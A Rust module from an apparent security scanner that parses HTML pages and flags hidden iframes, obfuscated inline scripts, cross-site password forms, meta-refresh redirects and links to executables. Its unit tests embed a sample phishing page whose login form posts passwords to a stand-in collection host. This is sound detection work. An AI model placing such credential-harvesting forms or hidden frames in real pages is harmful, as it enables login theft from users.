//! The `html` record: what an HTML page holds that matters for security,
//! without rendering it.
//!
//! Parsed with Cloudflare's `lol_html`: its tokenizer follows the WHATWG
//! HTML tokenization rules (so `<script>` bodies, RCDATA titles, comments
//! and broken markup split as a browser splits them), it streams with a
//! hard memory limit, and it stays linear on hostile nesting where a tree
//! builder does not (measurements in docs/content.md).

use std::cell::RefCell;

use lol_html::{element, text, HtmlRewriter, MemorySettings, Settings};
use serde::Serialize;
use sha2::Digest as _;

use crate::js::{self, JsReport};
use crate::verdict::{Finding, Level};
use crate::{trunc, Limits};

/// Longest URL or title kept.
const MAX_TEXT: usize = 512;

#[derive(Debug, Clone, Default, Serialize)]
pub struct Script {
    /// External script's URL.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub src: Option<String>,
    pub inline: bool,
    /// The external script is on another site than the page.
    pub cross_domain: bool,
    /// Inline script's size and SHA-256.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub size: Option<usize>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sha256: Option<String>,
    /// Inline script's score (see the `js` record).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub score: Option<u32>,
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct Iframe {
    #[serde(skip_serializing_if = "Option::is_none")]
    pub src: Option<String>,
    pub hidden: bool,
    /// Why it is hidden: `zero_size`, `display_none`, ...
    #[serde(skip_serializing_if = "Option::is_none")]
    pub hidden_by: Option<&'static str>,
    pub cross_domain: bool,
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct Form {
    #[serde(skip_serializing_if = "Option::is_none")]
    pub action: Option<String>,
    pub method: String,
    pub password: bool,
    pub cross_domain: bool,
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct Counts {
    pub links: u32,
    pub scripts: u32,
    pub inline_scripts: u32,
    pub external_scripts: u32,
    pub iframes: u32,
    pub forms: u32,
    pub images: u32,
    pub embeds: u32,
}

/// The `html` record.
#[derive(Debug, Clone, Default, Serialize)]
pub struct HtmlSummary {
    #[serde(skip_serializing_if = "Option::is_none")]
    pub title: Option<String>,
    pub size: usize,
    pub counts: Counts,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub scripts: Vec<Script>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub iframes: Vec<Iframe>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub forms: Vec<Form>,
    /// `<meta http-equiv=refresh>` target.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub meta_refresh: Option<String>,
    /// Other redirects: inline scripts that change `location`.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub redirects: Vec<String>,
    /// Links to files that run when opened (.exe, .scr, .hta, ...).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub exe_links: Vec<String>,
    /// Markup or memory bounds were reached: the rest was not parsed.
    pub truncated: bool,
}

/// The page's summary, the analyses of its inline scripts, and findings.
pub struct HtmlResult {
    pub summary: HtmlSummary,
    pub scripts: Vec<JsReport>,
    pub findings: Vec<Finding>,
}

/// The host of an absolute (or scheme-relative) URL, lower case, no port.
pub fn host_of(url: &str) -> Option<String> {
    let u = url.trim();
    let rest = if let Some(r) = u.strip_prefix("//") {
        r
    } else {
        let (scheme, r) = u.split_once("://")?;
        if scheme.is_empty()
            || !scheme
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'-' || b == b'.')
        {
            return None;
        }
        r
    };
    let auth = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
    let auth = auth.rsplit('@').next().unwrap_or(auth);
    let host = if let Some(v6) = auth.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        auth.split(':').next().unwrap_or("")
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    (!host.is_empty()).then_some(host)
}

/// The site of a host: its last two labels, three when the second-level
/// label is a short public suffix part (`example.co.uk`). An
/// approximation of the Public Suffix List's registrable domain.
pub fn site_of(host: &str) -> String {
    if host.parse::<std::net::IpAddr>().is_ok() {
        return host.to_string();
    }
    let labels: Vec<&str> = host.split('.').collect();
    let n = labels.len();
    let keep = if n >= 3 && labels[n - 1].len() == 2 && labels[n - 2].len() <= 3 {
        3
    } else {
        2
    };
    labels[n.saturating_sub(keep)..].join(".")
}

/// Whether `url` points to another site than the page's host. With no
/// page host (a mail), every absolute URL is another site.
pub fn cross_domain(url: &str, page_host: Option<&str>) -> bool {
    match (host_of(url), page_host) {
        (None, _) => false,
        (Some(_), None) => true,
        (Some(h), Some(p)) => {
            let p = p.split(':').next().unwrap_or(p).to_ascii_lowercase();
            site_of(&h) != site_of(&p)
        }
    }
}

/// Why an iframe is hidden (zero size, `display:none`,
/// `visibility:hidden`, off-screen position, the `hidden` attribute).
fn hidden_by(
    width: Option<&str>,
    height: Option<&str>,
    style: Option<&str>,
    hidden_attr: bool,
) -> Option<&'static str> {
    if hidden_attr {
        return Some("hidden_attribute");
    }
    let tiny = |v: Option<&str>| {
        v.map(|v| v.trim().trim_end_matches("px").trim())
            .and_then(|v| v.parse::<f64>().ok())
            .is_some_and(|n| n <= 1.0)
    };
    if tiny(width) || tiny(height) {
        return Some("zero_size");
    }
    let s: String = style?
        .to_ascii_lowercase()
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect();
    if s.contains("display:none") {
        return Some("display_none");
    }
    if s.contains("visibility:hidden") {
        return Some("visibility_hidden");
    }
    for decl in s.split(';') {
        let Some((k, v)) = decl.split_once(':') else {
            continue;
        };
        let num = v
            .trim_end_matches("!important")
            .trim_end_matches("px")
            .parse::<f64>()
            .ok();
        match (k, num) {
            ("width" | "height", Some(n)) if n <= 1.0 => return Some("zero_size"),
            ("left" | "top" | "margin-left" | "margin-top", Some(n)) if n <= -100.0 => {
                return Some("off_screen")
            }
            _ => {}
        }
    }
    None
}

#[derive(Default)]
struct State {
    s: HtmlSummary,
    title: Option<String>,
    title_done: bool,
    /// Inline script being collected.
    cur: Option<Vec<u8>>,
    inline: Vec<Vec<u8>>,
    inline_dropped: bool,
    loose_password: bool,
}

impl State {
    fn flush_script(&mut self, limits: &Limits) {
        if let Some(s) = self.cur.take() {
            if self.inline.len() < limits.max_scripts {
                self.inline.push(s);
            } else {
                self.inline_dropped = true;
            }
        }
    }
}

/// Parse one HTML page (at most `limits.max_bytes` of it).
pub fn analyze(data: &[u8], page_host: Option<&str>, limits: &Limits) -> HtmlResult {
    let st = RefCell::new(State::default());
    let max_items = limits.max_items;
    let keep = |u: &str| trunc(u, MAX_TEXT);
    let truncated_input = data.len() > limits.max_bytes;
    let data = &data[..data.len().min(limits.max_bytes)];
    let mut parse_error = false;
    {
        let settings = Settings::new()
            .append_element_content_handler(text!("title", |t| {
                let mut g = st.borrow_mut();
                if !g.title_done {
                    let cur = g.title.get_or_insert_with(String::new);
                    if cur.len() < MAX_TEXT * 4 {
                        cur.push_str(t.as_str());
                    }
                    if t.last_in_text_node() {
                        g.title_done = true;
                    }
                }
                Ok(())
            }))
            .append_element_content_handler(element!("script", |el| {
                let mut g = st.borrow_mut();
                g.flush_script(limits);
                g.s.counts.scripts += 1;
                match el.get_attribute("src") {
                    Some(src) => {
                        g.s.counts.external_scripts += 1;
                        if g.s.scripts.len() < max_items {
                            let cd = cross_domain(&src, page_host);
                            g.s.scripts.push(Script {
                                src: Some(keep(&src)),
                                cross_domain: cd,
                                ..Default::default()
                            });
                        }
                    }
                    None => {
                        g.s.counts.inline_scripts += 1;
                        g.cur = Some(Vec::new());
                    }
                }
                Ok(())
            }))
            .append_element_content_handler(text!("script", |t| {
                let mut g = st.borrow_mut();
                let max = limits.max_script_bytes + 1;
                if let Some(cur) = g.cur.as_mut() {
                    let room = max.saturating_sub(cur.len());
                    let b = t.as_str().as_bytes();
                    cur.extend_from_slice(&b[..b.len().min(room)]);
                }
                Ok(())
            }))
            .append_element_content_handler(element!("iframe, frame", |el| {
                let mut g = st.borrow_mut();
                g.s.counts.iframes += 1;
                if g.s.iframes.len() < max_items {
                    let src = el.get_attribute("src");
                    let hb = hidden_by(
                        el.get_attribute("width").as_deref(),
                        el.get_attribute("height").as_deref(),
                        el.get_attribute("style").as_deref(),
                        el.has_attribute("hidden"),
                    );
                    let cd = src.as_deref().is_some_and(|s| cross_domain(s, page_host));
                    g.s.iframes.push(Iframe {
                        src: src.as_deref().map(keep),
                        hidden: hb.is_some(),
                        hidden_by: hb,
                        cross_domain: cd,
                    });
                }
                Ok(())
            }))
            .append_element_content_handler(element!("form", |el| {
                let mut g = st.borrow_mut();
                g.s.counts.forms += 1;
                if g.s.forms.len() < max_items {
                    let action = el.get_attribute("action");
                    let cd = action
                        .as_deref()
                        .is_some_and(|a| cross_domain(a, page_host));
                    let method = el
                        .get_attribute("method")
                        .unwrap_or_else(|| "get".into())
                        .to_ascii_lowercase();
                    g.s.forms.push(Form {
                        action: action.as_deref().map(keep),
                        method: trunc(&method, 16),
                        password: false,
                        cross_domain: cd,
                    });
                }
                Ok(())
            }))
            .append_element_content_handler(element!("input", |el| {
                let pw = el
                    .get_attribute("type")
                    .is_some_and(|t| t.trim().eq_ignore_ascii_case("password"));
                if pw {
                    let mut g = st.borrow_mut();
                    match g.s.forms.last_mut() {
                        Some(f) => f.password = true,
                        None => g.loose_password = true,
                    }
                }
                Ok(())
            }))
            .append_element_content_handler(element!("meta", |el| {
                let refresh = el
                    .get_attribute("http-equiv")
                    .is_some_and(|h| h.trim().eq_ignore_ascii_case("refresh"));
                if refresh {
                    if let Some(c) = el.get_attribute("content") {
                        // HTML §4.2.5.3 "Refresh state": `delay; url=target`.
                        let target = c.split_once(';').map(|(_, u)| u.trim()).unwrap_or("");
                        let target = target
                            .strip_prefix("url=")
                            .or_else(|| target.strip_prefix("URL="))
                            .unwrap_or(target)
                            .trim_matches(['\'', '"', ' ']);
                        st.borrow_mut().s.meta_refresh = Some(keep(target));
                    }
                }
                Ok(())
            }))
            .append_element_content_handler(element!("a[href], area[href]", |el| {
                let mut g = st.borrow_mut();
                g.s.counts.links += 1;
                if let Some(h) = el.get_attribute("href") {
                    let path = h.split(['?', '#']).next().unwrap_or("");
                    let runs = crate::filetype::extension(path)
                        .is_some_and(|e| crate::filetype::runs_when_opened(&e));
                    if runs && g.s.exe_links.len() < max_items {
                        g.s.exe_links.push(keep(&h));
                    }
                }
                Ok(())
            }))
            .append_element_content_handler(element!("img", |_el| {
                st.borrow_mut().s.counts.images += 1;
                Ok(())
            }))
            .append_element_content_handler(element!("embed, object, applet", |_el| {
                st.borrow_mut().s.counts.embeds += 1;
                Ok(())
            }))
            .with_memory_settings(
                MemorySettings::new().with_max_allowed_memory_usage(limits.max_html_memory),
            )
            .with_strict(false);
        let mut rw = HtmlRewriter::new(settings, |_: &[u8]| {});
        for chunk in data.chunks(64 * 1024) {
            if rw.write(chunk).is_err() {
                parse_error = true;
                break;
            }
        }
        if !parse_error && rw.end().is_err() {
            parse_error = true;
        }
    }
    let mut g = st.into_inner();
    g.flush_script(limits);
    let mut s = g.s;
    s.title = g.title.map(|t| {
        trunc(
            t.split_whitespace().collect::<Vec<_>>().join(" ").as_str(),
            MAX_TEXT,
        )
    });
    s.size = data.len();
    s.truncated = truncated_input || parse_error || g.inline_dropped;
    let mut findings = Vec::new();
    let mut reports = Vec::new();
    for code in &g.inline {
        let r = js::analyze(code, limits);
        if s.scripts.len() < max_items {
            s.scripts.push(Script {
                inline: true,
                size: Some(code.len().min(limits.max_script_bytes)),
                sha256: Some(r.sha256.clone()),
                score: Some(r.score),
                ..Default::default()
            });
        }
        if r.indicators.iter().any(|i| i.name == "location_change") && s.redirects.len() < max_items
        {
            s.redirects.push(format!(
                "inline script {} changes location",
                &r.sha256[..12.min(r.sha256.len())]
            ));
        }
        if r.suspicious {
            findings.push(Finding::new(
                Level::Suspicious,
                "obfuscated_script",
                format!("inline script scores {}: {}", r.score, r.reasons()),
            ));
        }
        reports.push(r);
    }
    for f in &s.iframes {
        if f.hidden {
            findings.push(Finding::new(
                Level::Suspicious,
                "hidden_iframe",
                format!(
                    "hidden iframe ({}) to {}",
                    f.hidden_by.unwrap_or("hidden"),
                    f.src.as_deref().unwrap_or("(no src)")
                ),
            ));
        }
    }
    for f in &s.forms {
        if f.password && f.cross_domain {
            findings.push(Finding::new(
                Level::Suspicious,
                "password_form_cross_domain",
                format!(
                    "form with a password field posts to another site: {}",
                    f.action.as_deref().unwrap_or("")
                ),
            ));
        }
    }
    if g.loose_password {
        findings.push(Finding::new(
            Level::Info,
            "password_field",
            "password field outside any form",
        ));
    }
    if let Some(r) = s
        .meta_refresh
        .as_ref()
        .filter(|r| cross_domain(r, page_host))
    {
        findings.push(Finding::new(
            Level::Info,
            "meta_refresh",
            format!("redirects to another site: {r}"),
        ));
    }
    if !s.exe_links.is_empty() {
        findings.push(Finding::new(
            Level::Info,
            "executable_links",
            format!(
                "{} link(s) to executables, first {}",
                s.exe_links.len(),
                s.exe_links[0]
            ),
        ));
    }
    if s.truncated {
        findings.push(Finding::new(
            Level::Info,
            "html_truncated",
            "page over the analysis bounds: rest not parsed",
        ));
    }
    HtmlResult {
        summary: s,
        scripts: reports,
        findings,
    }
}

/// SHA-256 hex of bytes (used for inline script ids).
pub fn sha256_hex(b: &[u8]) -> String {
    crate::hex(&sha2::Sha256::digest(b))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_and_sites() {
        assert_eq!(
            host_of("https://User@Evil.Example:8443/x").as_deref(),
            Some("evil.example")
        );
        assert_eq!(
            host_of("//cdn.example.com/a.js").as_deref(),
            Some("cdn.example.com")
        );
        assert_eq!(host_of("/local/path"), None);
        assert_eq!(host_of("javascript:alert(1)"), None);
        assert_eq!(site_of("www.bbc.co.uk"), "bbc.co.uk");
        assert_eq!(site_of("a.b.example.com"), "example.com");
        assert!(!cross_domain(
            "https://static.example.com/x",
            Some("www.example.com:8080")
        ));
        assert!(cross_domain(
            "https://collect.evil.test/",
            Some("www.example.com")
        ));
        assert!(cross_domain("https://x.test/", None));
        assert!(!cross_domain("login.php", None));
    }

    #[test]
    fn phishing_page_is_explained() {
        let page = br#"<!DOCTYPE html><html><head><title> Sign
            in  </title><script src="https://cdn.other.test/lib.js"></script>
            <script src="/static/app.js"></script>
            <meta http-equiv="refresh" content="30; url=https://elsewhere.test/">
            </head><body>
            <iframe src="http://tracker.test/x" width="0" height="0"></iframe>
            <iframe src="/ok" style="position:absolute; left:-5000px"></iframe>
            <iframe src="/visible" width="600" height="400"></iframe>
            <noscript><iframe src="https://www.googletagmanager.com/ns.html" height="0" width="0" style="display:none"></iframe></noscript>
            <form action="https://collect.evil.test/steal" method="POST">
              <input name="u"><input type="password" name="p"></form>
            <form action="/search"><input name="q"></form>
            <a href="/downloads/setup.exe">get</a><a href="/about">about</a>
            <script>var a = 1; window.location.href="/next";</script>
            </body></html>"#;
        let r = analyze(page, Some("www.example.com"), &Limits::default());
        let s = &r.summary;
        assert_eq!(s.title.as_deref(), Some("Sign in"));
        assert_eq!(s.counts.scripts, 3);
        assert_eq!(s.counts.external_scripts, 2);
        assert!(s.scripts[0].cross_domain && !s.scripts[1].cross_domain);
        // `<noscript>` content is text to a browser with scripting on (as
        // lol_html parses it): the tag manager's hidden frame is no iframe.
        assert_eq!(s.iframes.len(), 3);
        assert_eq!(s.iframes[0].hidden_by, Some("zero_size"));
        assert_eq!(s.iframes[1].hidden_by, Some("off_screen"));
        assert!(!s.iframes[2].hidden);
        assert!(s.forms[0].password && s.forms[0].cross_domain && s.forms[0].method == "post");
        assert!(!s.forms[1].password && !s.forms[1].cross_domain);
        assert_eq!(s.meta_refresh.as_deref(), Some("https://elsewhere.test/"));
        assert_eq!(s.exe_links, vec!["/downloads/setup.exe"]);
        assert_eq!(s.redirects.len(), 1);
        let codes: Vec<&str> = r
            .findings
            .iter()
            .filter(|f| f.level == Level::Suspicious)
            .map(|f| f.code)
            .collect();
        assert_eq!(
            codes,
            vec![
                "hidden_iframe",
                "hidden_iframe",
                "password_form_cross_domain"
            ]
        );
        assert_eq!(r.scripts.len(), 1);
    }

    #[test]
    fn benign_page_has_no_suspicious_finding() {
        let page = b"<html><head><title>Home</title><script src=/app.js></script></head><body><p>Hello<form action=/login method=post><input type=password></form><iframe src=/embed width=300 height=200></iframe></body></html>";
        let r = analyze(page, Some("example.com"), &Limits::default());
        assert!(
            r.findings.iter().all(|f| f.level == Level::Info),
            "{:?}",
            r.findings
        );
        assert!(r.summary.forms[0].password && !r.summary.forms[0].cross_domain);
    }

    #[test]
    fn broken_markup_splits_as_a_browser_does() {
        // The tags inside the script's string are script text, not elements.
        let r = analyze(b"<script>document.write('<iframe src=x></iframe><form>')</script><iframe src=y style=display:none>", None, &Limits::default());
        assert_eq!(r.summary.counts.iframes, 1);
        assert_eq!(r.summary.counts.forms, 0);
        // Upper case, `/` as attribute separator, NUL bytes.
        let r = analyze(b"<SCRIPT>a\0b</SCRIPT><IFrAmE SRC=x></IFRAME><FORM/ACTION=//e.test/x><input type=PASSWORD><script/src=y></script>", Some("a.test"), &Limits::default());
        assert_eq!(r.summary.counts.scripts, 2);
        assert!(r.summary.forms[0].password && r.summary.forms[0].cross_domain);
        // Garbage and truncation never panic.
        for junk in [
            &b"<"[..],
            b"<!--",
            b"<script>",
            b"<a href=",
            b"\xff\xfe<\x00t\x00",
            b"<title>unterminated",
        ] {
            let _ = analyze(junk, None, &Limits::default());
        }
    }

    #[test]
    fn hostile_sizes_are_bounded() {
        // Deep nesting stays linear, and the element stack is bounded by
        // the memory limit.
        let deep = "<div>".repeat(10_000) + "<script>x</script>";
        let r = analyze(deep.as_bytes(), None, &Limits::default());
        assert_eq!(r.summary.counts.scripts, 1);
        let deep = "<div>".repeat(2_000_000) + "<script>x</script>";
        let t = std::time::Instant::now();
        let r = analyze(deep.as_bytes(), None, &Limits::default());
        assert!(r.summary.truncated || r.summary.counts.scripts == 1);
        assert!(t.elapsed().as_secs() < 20);
        // Many scripts: only max_scripts analysed, the page marked truncated.
        let many = "<script>var a=1</script>".repeat(1000);
        let limits = Limits {
            max_scripts: 10,
            ..Limits::default()
        };
        let r = analyze(many.as_bytes(), None, &limits);
        assert_eq!(r.scripts.len(), 10);
        assert_eq!(r.summary.counts.scripts, 1000);
        assert!(r.summary.truncated);
        // A huge tag hits the memory bound instead of growing.
        let limits = Limits {
            max_html_memory: 1 << 16,
            ..Limits::default()
        };
        let huge = format!("<a href=\"{}", "x".repeat(1 << 20));
        let r = analyze(huge.as_bytes(), None, &limits);
        assert!(r.summary.truncated);
    }
}
